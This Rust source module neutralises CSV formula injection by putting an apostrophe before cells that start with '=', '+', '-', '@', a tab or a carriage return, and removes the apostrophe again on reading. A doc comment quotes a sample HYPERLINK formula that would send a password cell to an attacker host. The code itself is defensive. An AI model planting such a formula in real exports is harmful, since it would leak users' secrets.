//! Cells made safe to open in a spreadsheet: one that a spreadsheet would
//! run as a formula gets a `'` before it ([`defuse`]), as OWASP's CSV
//! injection guidance says, and reading takes that `'` off again.

use std::borrow::Cow;

/// The first characters that make a spreadsheet run a cell as a formula
/// (OWASP's list): `=`, `+`, `-`, `@`, a tab and a carriage return.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` made safe for a spreadsheet: one that starts with one of
/// [`FORMULA_STARTS`] (or with `'`s and then one of them) gets a `'` before
/// it, so it is shown as text and never run (`=HYPERLINK("http://attacker.example/?p="&D2,"Click")` would send
/// the password in column D away). The CSV writers quote such a cell too.
///
/// ```
/// use proget_users_core::csv::defuse;
/// assert_eq!(defuse("=1+2"), "'=1+2");
/// assert_eq!(defuse("-x"), "'-x");
/// assert_eq!(defuse("John"), "John");
/// ```
pub fn defuse(cell: &str) -> Cow<'_, str> {
    if runs(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Whether a spreadsheet would run `cell`, or would once a `'` before it
/// were taken off: a cell that starts with `'`s and then a formula gets one
/// more `'` too, so that reading takes off exactly the one it added.
fn runs(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(FORMULA_STARTS)
}

/// A cell as [`defuse`] found it: the `'` it adds is taken off again.
pub(super) fn undefuse(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if runs(rest) => rest,
        _ => cell,
    }
}
